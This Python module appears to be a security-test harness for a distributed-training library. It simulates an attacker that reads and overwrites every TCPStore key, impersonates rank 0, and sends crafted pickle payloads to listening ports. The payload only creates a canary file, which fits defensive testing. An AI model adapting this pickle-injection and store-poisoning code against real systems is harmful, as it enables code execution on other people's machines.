"""A stranger on the same network: it reaches every port, reads and writes every key, and knows no secret.

Its payload is a pickle that touches a file where it is loaded.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import re
import socket
import struct
import threading
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any

import psutil
import torch.distributed

dist: Any = torch.distributed

# bytes of what replicas send first when they connect, of signatures in a store, and of tags of frames
_INTRODUCTION, _SIGNATURE, _TAG = 56, 32, 16
_PAUSE = 0.01  # seconds between two rounds of mischief
_PATIENCE = timedelta(seconds=10)  # with a store that does not answer
_GENERATION = re.compile(r"/?adaptdl/(\d{1,3})/")
_SILENT = 20  # connections that it leaves open at once


class _Touch:
    def __init__(self, path: Path) -> None:
        self._path = str(path)

    def __reduce__(self) -> Any:
        return (open, (self._path, "w"))


class Attacker:
    """Threads that do mischief until `close`.

    Args:
        folder: Where `owned` appears if code of the attacker's runs.
        ports: Of the TCPStores, asked again and again.
        victims: Processes whose listening ports it connects to.
    """

    def __init__(
        self,
        folder: Path,
        ports: Callable[[], Iterable[int]],
        victims: Callable[[], Iterable[psutil.Process]] = lambda: (),
    ) -> None:
        self.owned = folder / "owned"
        self.payload = pickle.dumps(_Touch(self.owned))
        self.read: dict[str, bytes] = {}
        """Every key that it has read, and the newest value."""
        self.connected: set[int] = set()
        """Every port that it has talked to."""
        self._ports, self._victims = ports, victims
        self._over = threading.Event()
        self._threads: list[threading.Thread] = []
        self._impostor = socket.create_server(("127.0.0.1", 0))
        self._clients = threading.local()
        self._silent: list[socket.socket] = []

    def do(self, *mischief: Callable[[], None]) -> None:
        """Begin to do these again and again."""
        for each in mischief:
            thread = threading.Thread(target=self._again, args=(each,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _again(self, mischief: Callable[[], None]) -> None:
        while not self._over.wait(_PAUSE):
            with contextlib.suppress(RuntimeError, OSError, psutil.Error):
                mischief()

    def close(self) -> None:
        """End it all."""
        self._over.set()
        with contextlib.suppress(OSError):
            self._impostor.shutdown(socket.SHUT_RDWR)
        self._impostor.close()
        for thread in self._threads:
            thread.join(60)
        for sock in self._silent:
            sock.close()

    # -- mischief ------------------------------------------------------------------------------------

    def read_all(self) -> None:
        """Read every key of every store."""
        for _, key, value in self._values():
            self.read[key] = value

    def send_replicas_here(self) -> None:
        """Write our own address where replicas look for rank 0's."""
        host, port = self._impostor.getsockname()
        self._flood("go/{}", os.urandom(_SIGNATURE) + json.dumps([host, port]).encode())

    def forge_previews(self) -> None:
        """Write the payload where newcomers look for what the others are at."""
        self._flood("step/0", os.urandom(_SIGNATURE) + self.payload)

    def _flood(self, name: str, value: bytes) -> None:
        """Write one key of each generation, as fast as can be: before anybody else, and at once after.

        A store of a later generation does not say its number before replicas use it, and the stores of
        earlier ones may be closed: every store gets the key of every generation so far, and of the next.
        """
        stores = [self._client(port) for port in self._ports()]
        for _ in range(100):
            for generation in range(self._generations()):
                for store in stores:
                    store.set(f"adaptdl/{generation}/{name.format(generation)}", value)

    def _generations(self) -> int:
        """Return the number of the newest generation that was seen, plus two, and at least four."""
        found = (_GENERATION.match(key) for key in tuple(self.read))
        return max([2, *(int(match[1]) for match in found if match)]) + 2

    def write_all(self) -> None:
        """Write the payload over every value."""
        for store, key, _ in self._values():
            store.set(key, self.payload)

    def impersonate(self) -> None:
        """Answer whoever connects to us as rank 0 would, without its secret, and reply with the payload."""
        sock, _ = self._impostor.accept()
        with sock:
            sock.settimeout(5)
            sock.sendall(os.urandom(16))
            # an introduction and its proof, and a frame with its tag
            _exactly(sock, _INTRODUCTION)
            sock.sendall(os.urandom(_SIGNATURE))
            length, _kind = struct.unpack("!QB", _exactly(sock, 9))
            contribution = _exactly(sock, length + _TAG)
            answer = contribution[:8] + b"o" + self.payload
            sock.sendall(struct.pack("!QB", len(answer), 1) + answer + os.urandom(_TAG))
            sock.recv(1)

    def connect_to_all(self) -> None:
        """Send garbage and payloads to every port that a victim listens on, and leave silent connections."""
        for port in self._listening():
            self.connected.add(port)
            for data in (
                os.urandom(200),
                self.payload,
                struct.pack("!QB", len(self.payload), 3) + self.payload,
            ):
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as sock:
                    sock.sendall(data)
            with contextlib.suppress(OSError):
                self._silent.append(socket.create_connection(("127.0.0.1", port), 1))
        while len(self._silent) > _SILENT:
            self._silent.pop(0).close()

    # -- what it works with --------------------------------------------------------------------------

    def _values(self) -> list[tuple[Any, str, bytes]]:
        clients = [self._client(port) for port in self._ports()]
        return [(client, key, client.get(key)) for client in clients for key in client.list_keys()]

    def _client(self, port: int) -> Any:
        """This thread's connection to a store."""
        known = self._clients.__dict__
        if str(port) not in known:
            # a store may end between the look at its port and this
            known[str(port)] = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=_PATIENCE)
        return known[str(port)]

    def _listening(self) -> set[int]:
        ports = set()
        for process in self._victims():
            with contextlib.suppress(psutil.Error):
                for connection in process.net_connections("tcp"):
                    if connection.status == psutil.CONN_LISTEN:
                        ports.add(connection.laddr.port)
        return ports


def _exactly(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        more = sock.recv(size - len(data))
        if not more:
            raise ConnectionError
        data += more
    return data
